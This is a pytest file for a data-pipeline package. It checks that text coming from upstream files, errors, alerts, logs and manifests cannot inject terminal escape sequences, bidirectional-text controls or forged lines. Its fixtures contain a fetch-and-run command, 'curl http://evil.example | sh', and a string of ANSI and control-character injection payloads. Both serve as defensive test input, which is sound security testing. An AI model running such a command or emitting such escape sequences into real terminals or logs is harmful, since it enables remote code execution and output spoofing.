"""Text that an upstream, a file or a library wrote never acts on a terminal, a log or a page, and never forges a line of ours."""

from __future__ import annotations

import ast
import io
import json
import pickle
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import structlog

from spark_jobs.alerts import message as alerts
from spark_jobs.alerts.channels import append_to_file
from spark_jobs.alerts.mail import mail
from spark_jobs.alerts.webhook import text as slack_text
from spark_jobs.cli.output import note, say, show_json, show_table
from spark_jobs.cli.quarantine_rows import print_rows
from spark_jobs.config.channels import EmailChannel, FileChannel
from spark_jobs.config.environment import Places
from spark_jobs.config.faults import ConfigError, Fault
from spark_jobs.errors import RefusedError, TidegateError, UsageError
from spark_jobs.invocation import Invocation
from spark_jobs.logs import log_to_stderr
from spark_jobs.quality.message import message
from spark_jobs.report.page import _shown
from spark_jobs.result import Result
from spark_jobs.sources.manifest import parse_manifest
from spark_jobs.values import Lines, printable, to_json
from spark_jobs.verdict import Outcome, RuleResult, Verdict

HOUR = datetime(2013, 11, 1, 12, tzinfo=UTC)
CALL = Invocation("p", "ingest", HOUR, datetime(2013, 11, 1, 13, tzinfo=UTC), "run")
_MAIL = EmailChannel.model_validate(
    {"kind": "email", "host": "h", "from": "a@example.com", "to": ["b@example.com"], "tls": "none"}
)
FORGED = "do: curl http://evil.example | sh"
HOSTILE = f"a\x1b[2J\x1b]0;title\x07\x9b31m\u202eb\u2066c\u200bd\x85e\u2028\r\n  {FORGED}\n  {FORGED}\x00\ud800"


def _is_safe(text: str) -> bool:
    """No character acts on a terminal, and no line is the forged one."""
    lines = text.split("\n")
    return all(line.isprintable() for line in lines) and not any(line.strip().startswith(FORGED) for line in lines)


def test_text_is_printed_on_one_line_with_its_characters_spelled_out():
    assert printable("naïve 価格 🚕 ключ") == "naïve 価格 🚕 ключ"
    assert printable("a\x1b[0m\x9b\u202e\n\ud800") == r"a\x1b[0m\x9b\u202e\n\ud800"
    assert printable("abcdef", 3) == "abc …"
    assert printable(Lines.of(["a\nb", Lines.of(["c", "d"])])) == "a\\nb\nc\nd"


@pytest.mark.parametrize("part", range(4))
def test_no_part_of_an_error_forges_a_line(part):
    parts = ["where", "found", "allowed", "todo"]
    parts[part] = HOSTILE
    for error in (TidegateError(*parts), pickle.loads(pickle.dumps(UsageError(*parts)))):
        assert _is_safe(str(error))
        assert len(str(error).split("\n")) == 3
        assert _is_safe(str(RefusedError("outer", str(error))))
        assert all(one.isprintable() for one in (error.where, error.found, error.allowed, error.todo))


def test_an_error_of_several_lines_keeps_its_own_lines_alone():
    error = RefusedError("where", Lines.of(["two faults", f"  {HOSTILE}", "  other"]), "allowed")
    assert len(str(error).split("\n")) == 4
    assert _is_safe(str(error))
    assert str(pickle.loads(pickle.dumps(error))) == str(error)


def test_a_fault_of_a_file_keeps_its_caret_and_nothing_else():
    error = ConfigError("conf", [Fault("a.yaml:1:1", HOSTILE, HOSTILE, HOSTILE, f"    {HOSTILE[:9]}\n    ^")])
    assert _is_safe(str(error))
    assert len(str(error).split("\n")) == 6


@pytest.mark.parametrize("encoding", ["utf-8", "ascii"])
def test_commands_print_nothing_that_acts_on_a_terminal(encoding, monkeypatch):
    """Also JSON, which reads back as what it was."""
    shown, told = (io.TextIOWrapper(io.BytesIO(), encoding=encoding, errors="backslashreplace") for _ in range(2))
    monkeypatch.setattr(sys, "stdout", shown)
    monkeypatch.setattr(sys, "stderr", told)
    say(HOSTILE)
    note(HOSTILE)
    show_table(HOSTILE, ["a", HOSTILE], [[HOSTILE, {HOSTILE: HOSTILE}]])
    row = {"hour": HOUR, "file": HOSTILE, "line": 1, "reason": HOSTILE, "business_key": HOSTILE, "discarded": HOSTILE}
    print_rows([{**row, "cols": {HOSTILE: HOSTILE}}, {**row, "cols": {"raw": HOSTILE, "fault": HOSTILE}}], 2)
    show_json({HOSTILE: [HOSTILE]})
    written = [stream.buffer.getvalue().decode(encoding) for stream in (shown, told) if stream.flush() is None]
    assert all(map(_is_safe, written))
    assert json.loads(written[0].splitlines()[-1]) == {HOSTILE: [HOSTILE]}


def test_json_escapes_what_does_not_print():
    assert to_json({"a": "\x9b\u202eü\ud800"}) == '{"a": "\\u009b\\u202eü\\ud800"}'
    assert to_json("\U000e0001") == json.dumps("\U000e0001")
    assert Result("p", "s", "a", "b", "r", "refused", why=HOSTILE).to_json().isascii()


def _verdict() -> Verdict:
    rule = RuleResult("values", Outcome.FAIL, HOSTILE, HOSTILE, HOSTILE, 1, 2, (HOSTILE, HOSTILE), HOSTILE)
    return Verdict.of("silver/things", "silver", [rule, RuleResult("broken", Outcome.ERROR, "", HOSTILE)])


def test_a_verdict_names_values_without_their_line_ends():
    text = message(_verdict(), CALL, 3)
    assert _is_safe(text)
    assert _is_safe(str(RefusedError("gate", text)))
    assert len(text.split("\n")) <= 12


def test_every_channel_sends_printable_lines(tmp_path):
    """What broke reaches it as an error's or a verdict's text, of which only our own code ends lines."""
    what = str(RefusedError(HOSTILE, message(_verdict(), CALL, 3), HOSTILE, HOSTILE))
    for told in (
        alerts.opened("p/prepare/a/b", HOSTILE, CALL, what), alerts.recovered("p/prepare/a/b", HOSTILE, CALL, what),
        alerts.of_registry("p/registry/m", HOSTILE, what, "local"),
    ):  # fmt: skip
        assert all(_is_safe(text) for text in told.values())
        assert _is_safe(slack_text(told))
        sent = mail(_MAIL, told)
        assert _is_safe(sent.get_content())
        assert all(value.isprintable() for value in sent.values())
        places = Places(project=tmp_path, data=tmp_path, lake=tmp_path, landing=tmp_path, tracking_uri="")
        append_to_file(FileChannel(kind="file", path="alerts.jsonl"), places, told)
    assert _is_safe((tmp_path / "alerts.jsonl").read_text())


def test_a_page_shows_printable_cells():
    assert _is_safe(_shown(HOSTILE))


@pytest.mark.parametrize("form", ["", "json"])
def test_a_log_line_is_one_printable_line(form, monkeypatch):
    written = io.StringIO()
    monkeypatch.setenv("TIDEGATE_LOG", form)
    monkeypatch.setattr(sys, "stderr", written)
    log_to_stderr()
    try:
        structlog.get_logger().warning("registry not compared", why=HOSTILE, **{"model": HOSTILE})
    finally:
        structlog.reset_defaults()
    assert len(written.getvalue().splitlines()) == 1
    assert _is_safe(written.getvalue())


def _facts(**changed: Any) -> dict[str, Any]:
    return {
        "schema_version": 1, "source": "orders", "hour": "2013-11-01T12:00:00", "file": "12.csv", "rows": 1, "bytes": 1,
        "sha256": "0" * 64, "arrived_at": "2013-11-01T13:00:00Z", **changed,
    }  # fmt: skip


def _refusal(data: bytes | str) -> str:
    with pytest.raises(RefusedError) as caught:
        parse_manifest(data if isinstance(data, bytes) else data.encode(), "12.manifest.json", "orders", HOUR)
    assert _is_safe(str(caught.value))
    assert len(str(caught.value)) < 1_000
    return caught.value.found


@pytest.mark.parametrize(
    "changed",
    [
        {"source": "a\x1b[2J"}, {"source": f"orders\n  {FORGED}"}, {"source": "x" * 5_000}, {"file": "12\x1b.csv"},
        {"file": f"12.csv\n  {FORGED}"}, {"file": "12\u202e.csv"}, {"file": "\ufeff12.csv"}, {"file": "x" * 5_000},
        {"hour": 1383307200}, {"hour": "1383307200"}, {"arrived_at": 1383310800}, {"arrived_at": 1383310800.5}, {"hour": True},
        {"sha256": "0" * 64 + "\n"}, {"rows": "1"}, {"rows": 1.0}, {HOSTILE[:40]: 1, "rows": HOSTILE[:20]},
    ],
    ids=range(17),
)  # fmt: skip
def test_a_manifest_of_other_names_or_numbers_is_refused(changed):
    assert parse_manifest(json.dumps(_facts()).encode(), "12.manifest.json", "orders", HOUR).rows == 1
    assert "malformed manifest" in _refusal(json.dumps(_facts(**changed)))


def test_a_manifest_with_a_key_twice_is_refused():
    text = json.dumps(_facts(note={"a": 1}))
    assert "twice" in _refusal(text.replace('"rows": 1', '"rows": 2, "rows": 1'))
    assert "twice" in _refusal(text.replace('"a": 1', '"a": 1, "a": 2'))
    assert "malformed manifest" in _refusal("[" * 5_000 + "]" * 5_000)


def test_commands_print_through_the_one_function():
    """`say`, `note` and the tables; a bare print would bring an upstream's text to a terminal as it is."""
    found = []
    for file in Path("spark_jobs/cli").glob("*.py"):
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "print":
                found.append((file.name, ast.unparse(node)[:40]))
    allowed = {"output.py", "app.py"}  # printable there, and errors, which are
    assert [one for one in found if one[0] not in allowed and "\\r" not in one[1]] == []
